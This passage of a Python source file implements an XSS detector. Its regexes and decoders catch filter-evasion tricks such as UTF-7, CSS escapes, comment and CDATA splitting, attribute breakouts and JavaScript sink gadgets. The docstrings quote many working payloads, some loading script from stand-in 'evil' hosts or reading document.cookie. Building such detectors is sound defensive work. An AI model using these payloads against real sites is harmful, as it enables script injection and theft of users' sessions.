        if name.lower() == "meta" and attr in ("charset", "content") and _UTF7_CHARSET.search(value):
            return True  # <meta charset="utf-7">: the page is decoded as UTF-7, so +ADw-script+AD4- is <script>
    return False


_CSS_ESCAPE = re.compile(r"\\(?:([0-9a-fA-F]{1,6})[ \t\r\n]?|([^0-9a-fA-F\r\n]))")


def _css_char(m: re.Match[str]) -> str:
    if m.group(2) is not None:
        return m.group(2)
    code = int(m.group(1), 16)
    return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"


def _css_text(css: str) -> str:
    """CSS as its parser reads it: escapes decoded, comments dropped. Old IE dropped a comment inside a word
    (``expr/**/ession(``), so a comment is removed, not read as a space."""
    css = _css_unescape(css)
    return _JS_COMMENT.sub("", css) if "/*" in css else css


_LOADED_REL = re.compile(r"(?<![\w-])(?:stylesheet|import)(?![\w-])", re.I)
"""``<link>`` relations that load into the page: a style sheet (script in old browsers' CSS, data read out by
selectors in current ones) and an HTML import (its scripts run). ``icon``, ``canonical`` or ``preconnect`` load nothing
that runs."""


def _css_unescape(css: str) -> str:
    """CSS drops a backslash before a character that is not a hex digit (``@im\\port`` is ``@import``) and reads
    ``\\6A`` (one to six hex digits, then an optional space) as the character it numbers, so
    ``url('\\6A\\61\\76…')`` is ``url('javascript:…')``."""
    return _CSS_ESCAPE.sub(_css_char, css) if "\\" in css else css


_URL_ATTR_BREAKOUT = re.compile(
    r"(?:^[\"'\x60]?|[\"'\x60])\s+(?:src|href|action|formaction|data|srcdoc|xlink:href)\s*=\s*[\"']?\s*"
    r"(?:https?:)?//[^\s\"'<>]",
    re.I,
)
"""A quote closed (or the value starts where an attribute list continues), then an attribute that loads a URL
(``" src=http://evil.example/x.js``): the page fetches the attacker's script, frame or form target."""


_ATTRIBUTE_PROBE = re.compile(r"\s*[\"'\x60]\s*(?:on[a-z]{3,}|formaction|srcdoc)\s*=\s*", re.I)
"""A whole value that closes a quote and opens a script-bearing attribute with its value still to come
(``"onzoom=``, ``'formaction=``): a scanner's probe for whether the quote and ``=`` reach the page unescaped. Any
``on…`` name counts: browsers keep adding events."""


def _attribute_breakout(value: str) -> tuple[int, int] | None:
    """A quote, then (within 120 characters, no tag in between) an event handler: ``" onmouseover=``; or a
    quote, then a URL-loading attribute with an absolute URL: ``" src=http://…``."""
    if "=" in value and "//" in value and (url_attr := _URL_ATTR_BREAKOUT.search(value)):
        lt = value.rfind("<", 0, url_attr.start())
        if lt < 0 or value.rfind(">", 0, url_attr.start()) > lt or _BREAKOUT_PREFIX.match(value):
            return url_attr.start(), url_attr.end()  # not an attribute of a tag the tokenizer already judged
    for m in _HANDLER_EQ.finditer(value):
        if not _EVENT_NAME.fullmatch(m.group(1)):
            continue
        window = value[max(0, m.start() - 120) : m.start() + 1]
        quote = max(window.rfind('"'), window.rfind("'"), window.rfind("`"))
        if quote >= 0 and "<" not in window[quote:] and ">" not in window[quote:]:
            return m.start() - (len(window) - 1 - quote), m.end()
    return None


_CDATA = re.compile(r"<!\[CDATA\[|\]\]>")
"""XML CDATA markers: an XML parser drops them, so ``<![CDATA[<]]>SCRIPT<![CDATA[>]]>`` reaches a page as
``<SCRIPT>``."""
_COMMENT_LIMIT = 64
"""How many HTML comments ``_drop_comments`` removes; a value with more is judged as written past them."""


def _drop_comments(value: str) -> str:
    """``value`` with its HTML comments (``<!-- … -->``) removed: an XML data island's parser drops a comment inside
    what becomes an attribute (``<IMG SRC="javas<!-- -->cript:…">`` bound into the page as ``javascript:…``), as a
    filter that strips comments does. Linear: each search starts where the last comment ended."""
    parts: list[str] = []
    pos = 0
    for _ in range(_COMMENT_LIMIT):
        start = value.find("<!--", pos)
        if start < 0:
            break
        end = value.find("-->", start + 4)
        if end < 0:
            break
        parts.append(value[pos:start])
        pos = end + 3
    parts.append(value[pos:])
    return "".join(parts)


_HTC_IMPORT = re.compile(r"<\?import\b[^>]*\bimplementation\s*=", re.I)
"""Internet Explorer's ``<?import … implementation="x.htc">``: the HTML component's script runs in the page."""


_JS_COMMENT = re.compile(r"/\*[^*]*+\*++(?:[^/*][^*]*+\*++)*+/")
"""A JavaScript block comment, which the parser reads as a space: ``document/*x*/./*y*/cookie`` is
``document.cookie`` and ``self /*x*/ [ "alert" ](1)`` a call."""


_SEVEN_BIT = {code: code & 0x7F for code in range(0xA0, 0x100)}
"""Latin-1's upper half with the high bit cleared (``¼`` 0xBC to ``<``, ``¾`` 0xBE to ``>``, ``¢`` 0xA2 to ``"``):
what an old browser reading a page declared US-ASCII made of each byte."""


def is_xss(value: str) -> tuple[int, int] | None:
    """The span to report when ``value`` would run script in an HTML, attribute or JS context."""
    if "/*" in value and "*/" in value and (spaced := _JS_COMMENT.sub(" ", value)) != value and (
            _xss(spaced) is not None):
        return 0, len(value)
    if "\\" in value and len(_NEEDLESS_ESCAPE.findall(value, 0, 400)) >= 3 and (
            _xss(_js_string_unescape(value)) is not None):
        return 0, len(value)
    if "<![" in value and (unwrapped := _CDATA.sub("", value)) != value and _xss(unwrapped) is not None:
        return 0, len(value)
    if "<!--" in value and "-->" in value and (uncommented := _drop_comments(value)) != value and (
            _xss(uncommented) is not None):
        return 0, len(value)
    if ("\\" in value or "/*" in value) and ":" in value and _CSS_DECL.search(_css_text(value)):
        return 0, len(value)  # x:expression\28…\29, x:expr/**/ession(…): what CSS reads wherever the value lands
    if "\xbc" in value and "\xbe" in value and _xss(value.translate(_SEVEN_BIT)) is not None:
        return 0, len(value)  # ¼script¾: a page served as US-ASCII drops the high bit, so ¼ is "<" and ¾ ">"
    if "+ad" in value.lower():
        if (decoded := _UTF7_BRACKETS.sub(_utf7_bracket, value)) != value and _xss(decoded) is not None:
            return 0, len(value)
        if (decoded := _utf7_text(value)) != value and (
                _xss(decoded) is not None or (_BARE_TAG.search(decoded) and _TEMPLATE_SINK.search(decoded))):
            return 0, len(value)  # +AD4APA- is "><" (fresh84): markup spelled in UTF-7, then a script call
    found = _xss(value)
    if found is None and "<" in value:
        found = _rewritten_markup(value)
    if found is None and ("\t" in value or "\n" in value or "\r" in value) and _JS_CALL.match(
            value.translate(_URL_IGNORED)):
        return 0, len(value)  # a\tl\te\tr\tt(1): a script URL's parser deletes the blanks inside the sink's name
    if found is None:
        found = obfuscated_script(value)
    return found


_PLACEHOLDER = re.compile(r"\[\w{1,2}\]")
"""html5sec's fuzzing marks (``<img[a][b]src=x[d]onerror[c]=…>``, ``href="[a]java[b]script[c]:…"``): each stands for
a character a parser skips or reads as a blank (a tab, a line break, a control character), so the template is the
attack its filled-in forms are. Read as a blank when a value with markup has two or more."""
_LITERAL_BLANK = re.compile(r"\\[nrtfv]")
"""``\\n`` written as two characters (``<img\\nsrc=x\\nonerror=…>``): a page that puts the value in a JavaScript
string and then into ``innerHTML`` reads it as a line break between attributes."""
_LITERAL_NUL = re.compile(r"\\(?:0(?![0-7])|x00|u0000)")
"""A NUL written as an escape (``<IMG SRC=java\\0script:…>``, fresh61's naughty strings): the string that carries
the value into the page (a Perl or JavaScript literal) makes it a NUL, which old browsers and sanitisers that drop
controls delete, joining ``java`` and ``script`` again."""


def _rewritten_markup(value: str) -> tuple[int, int] | None:
    """Markup that becomes script once a parser or a filter rewrites it: placeholders read as blanks, escaped
    blanks unescaped, U+FFFD (what a decoder leaves for an invalid byte) dropped as ``iconv //IGNORE`` and
    sanitisers that delete invalid bytes do (``<script\ufffd>``)."""
    whole = 0, len(value)
    if "[" in value and len(_PLACEHOLDER.findall(value)) >= 2 and _xss(_PLACEHOLDER.sub(" ", value)):
        return whole
    if "\\" in value and (unescaped := _LITERAL_BLANK.sub(" ", value)) != value and _xss(unescaped):
        return whole
    if "\\" in value and (joined := _LITERAL_NUL.sub("", value)) != value and _xss(joined):
        return whole
    if "\ufffd" in value and _xss(value.replace("\ufffd", "")):
        return whole
    return None


_UTF7_CHARSET = re.compile(r"utf-?7|imap4-modified-utf7", re.I)
_UTF7_BRACKETS = re.compile(r"\+AD[wW4]-", re.I)
"""``+ADw-script+AD4-``: ``<script>`` in UTF-7, which a page declared (or sniffed) as UTF-7 decodes to markup."""
_UTF7_RUN = re.compile(r"\+([A-Za-z0-9/][A-Za-z0-9+/]{2,})-?")
"""A whole UTF-7 base64 run, which may hold several characters (``+AD4APA-`` is ``><``, fresh84)."""
_B64 = {c: i for i, c in enumerate("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")}


def _utf7_bracket(m: re.Match[str]) -> str:
    return "<" if m.group()[3] in "wW" else ">"


def _utf7_run(m: re.Match[str]) -> str:
    """A UTF-7 base64 run as the characters it spells, when they are printable ASCII (what a tag or a script is
    written in); otherwise the run as it stands (``C++`` or a token in text decodes to no such characters)."""
    bits = units = 0
    out = []
    for c in m.group(1):
        bits = bits << 6 | _B64[c]
        units += 6
        if units >= 16:
            units -= 16
            code = bits >> units
            bits &= (1 << units) - 1
            if not (0x20 <= code < 0x7F or code in (9, 10, 13)):
                return m.group()
            out.append(chr(code))
    return "".join(out)


def _utf7_text(value: str) -> str:
    """``value`` with its UTF-7 base64 runs spelled out (see ``_utf7_run``)."""
    return _UTF7_RUN.sub(_utf7_run, value)


def _xss(value: str) -> tuple[int, int] | None:
    if "<?" in value and (htc := _HTC_IMPORT.search(value)):
        return htc.start(), htc.end()
    if "<" in value:
        embeds = _BREAKOUT_PREFIX.match(value) is None
        for m in _TAG.finditer(value):
            closing, name, attrs = m.group(1), m.group(2), m.group(3)
            if closing:
                if name.lower() == "script":
                    return m.start(), m.end()
                continue
            style_body = value[m.end() : m.end() + _STYLE_BODY] if name.lower() == "style" else ""
            closed = embeds and name.lower() == "iframe" and _IFRAME_END.search(value, m.end()) is not None
            if _tag_is_script(name, attrs, style_body, closed):
                return m.start(), m.end()
    breakout = _attribute_breakout(value)
    if breakout is not None:
        return breakout
    if "=" in value and _ATTRIBUTE_PROBE.fullmatch(value):
        return 0, len(value)
    if (script_url := _script_url(value)) is not None:
        return script_url
    for pattern in (_JS_BREAKOUT, _CSS_DECL, _JS_CALL, _BREAKOUT_CALL):
        found = pattern.search(value)
        if found:
            return found.start(), found.end()
    if "." in value and ")" in value:
        if _SCRIPT_CONTEXT_CALL.fullmatch(value):
            return 0, len(value)
        if ";" in value and (found := _GLOBAL_CHAIN_CALL.search(value)):
            return found.start(), found.end()
    if (")(" in value or ")\x60" in value) and (called := _PAREN_SINK_CALL.search(value)):
        return called.start(), called.end()
    low = value.lower()
    if ("alert" in low or "confirm" in low or "prompt" in low or "eval" in low or "constructor" in low
            or "tostring" in low):
        for pattern in (_SINK_PASSED, _OPERAND_SINK, _NUMBER_BREAKOUT):
            found = pattern.search(value)
            if found:
                return found.start(), found.end()
    if "getOwnPropertyDescriptor" in value and (descriptor := _DESCRIPTOR_CALL.search(value)):
        return descriptor.start(), descriptor.end()
    if "=" in value and (handler := _HANDLER_SINK.search(value)):
        return handler.start(), handler.end()
    if ("+=" in value or "=+" in value) and (plus := _plus_spaced_handler(value)):
        return plus
    if "<" in value and "=" in value and (made_up := _MADE_UP_HANDLER.search(value)):
        return made_up.start(), made_up.end()
    if "{{" in value and (template := _template_function(value)):
        return template
    if "<" in value and (stripped := _BARE_TAG.sub("", value)) != value and (
        _attribute_breakout(stripped) or _HANDLER_SINK.search(stripped) or _JS_BREAKOUT.search(stripped)
    ):
        return 0, len(value)
    if "+" in value and _CONCAT.search(value):
        joined = _CONCAT.sub("", value)  # 'al'+'ert'+'(1)': string concatenation rebuilds the sink
        if joined != value and (_JS_CALL.search(joined) or _script_url(joined)):
            return 0, len(value)
    return _gadget(value, low)


_SINKS = r"(?:alert|confirm|prompt|eval|setTimeout|setInterval|(?-i:Function))"
_QUOTED_ATTR_SINK = re.compile(r"[\"'\x60]\s*[\w:-]{1,30}\s*=\s*[\"'\x60]?\s*" + _SINKS + r"\s*[(\x60]", re.I)
"""A quote closed, then any attribute whose value calls a sink (``"autofocus=alert(1)//``): the probe that checks a
quote and ``=`` reach the page, the handler it will send under a real name."""
_HANDLER_FUNCTION = re.compile(
    r"^\s*(?:(?:window|self|top|document|body)\s*\.\s*)?" + EVENTS + r"\s*=\s*(?:async\s*)?"
    r"(?:\(?[\w$,\s]{0,40}\)?\s*=>|function\s*[\w$]*\s*\()[^\n]{0,120}?(?:alert|confirm|prompt|eval|fetch|import"
    r"|getScript|globalEval|document\s*\.\s*(?:cookie|write|domain)|location\s*=)",
    re.I)
"""A whole value that makes a function the page's handler (``onload=x=>$.getScript('//evil/x.js')``,
``onerror=function(){alert(1)}``): pasted into a script it assigns ``window.onload``, whose body loads or runs
script."""
_SINK_ARGUMENT = re.compile(
    r"\.\s*[a-z_$][\w$]{0,30}\((?:[^()\n]{0,40}?,)?\s*" + _SINKS + r"\s*\)[^\n]{0,60}?\)\s*[(\x60]", re.I)
"""A sink handed to a method as a value and a returned value then called (``[1,2].with(0,alert).shift()(1)``,
``[0].concat(confirm).pop()(1)``): the sink is called without its name before a parenthesis."""
_UNBOUND_METHOD = re.compile(
    r"(?:window|self|top|parent|frames|globalThis|this)\s*\.\s*[\w$]+\s*=\s*(?:\[\s*\]|\{\s*\}|[\w$]+\s*\.\s*prototype)"
    r"\s*\.\s*[\w$]+\s*[;,][^\n]{0,200}?(?<![\w$])(?:alert|confirm|prompt|eval)\s*[(\x60]", re.I)
"""A built-in method stored on the window and called there (``window.x=[].with;window.x().pop().alert(1)``): with the
window as ``this`` it hands back the window's own members, a sink among them."""
_TAGGED_CALL = re.compile(r"\.\s*(?:call|apply|bind)\s*\x60[^\x60]{0,200}?\$\{"
                          r"|\.\s*constructor\s*\x60\s*(?:alert|confirm|prompt|eval|fetch|import)\b")
"""``Function.prototype.call`` used as a template tag (``apply.call`${navigation.navigate}${navigation}${[name]}` ``):
the template's parts become the function, its ``this`` and its arguments, a call with no parentheses. A constructor
used as one (``Set.constructor`alert\x281\x29``` ``) is ``Function``, building a function from the template."""
_NUMBER_BREAKOUT = re.compile(
    r"(?:^\s*|[=&])[\w.$-]{1,40}[)\]}]*+\s*;\s*(?:alert|confirm|prompt|eval)\s*\([^()\n]{0,80}\)\s*(?:;|//|/\*|$)",
    re.I)
"""A number or a name ended, then a statement calling a sink and closed (``500); alert(document.cookie);//``,
``id=1;alert(1)``): a value that lands unquoted in an inline script, as a number or an identifier does, breaks out
with no quote. Only at the start of the value or of a ``name=value`` pair: a sentence has spaces before the ``;``."""
_XML_EVENTS = re.compile(r"[\s\"'/][\w-]+:event\s*=|<(?:[\w-]+:)?(?:handler|listener)\b", re.I)
"""XML Events (``<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>``): a
listener element or ``ev:event`` attribute under the XML Events namespace runs its content in SVG viewers that
implement it. Judged only when the value names that namespace."""
_SPACED_SCRIPT = re.compile(
    r"<(?=[\s\x00-\x1f/])[\s\x00-\x1f]*+/?[\s\x00-\x1f]*+script[\s\x00-\x1f]*+>"
    r"[^<]{0,60}?(?:alert|confirm|prompt|eval)\s*[(\x60]", re.I)
"""``<\tscript\t>alert\t(1)``: HTML5 reads ``<`` then a blank as text, so no current browser runs it; a filter
or normaliser that deletes blanks after ``<`` makes it a script element. A probe for such a filter: no text writes a
spaced script tag and a sink call."""


def _gadget(value: str, low: str) -> tuple[int, int] | None:
    """Script with no tag that calls a sink indirectly or reaches a page through a lenient parser."""
    for pattern, needed in ((_QUOTED_ATTR_SINK, "="), (_HANDLER_FUNCTION, "="), (_SINK_ARGUMENT, "("),
                            (_UNBOUND_METHOD, "="), (_TAGGED_CALL, "\x60"), (_SPACED_SCRIPT, "<")):
        if needed in value and (found := pattern.search(value)):
            return found.start(), found.end()
    if "xml-events" in low and (event := _XML_EVENTS.search(value)):
        return event.start(), event.end()
    return None
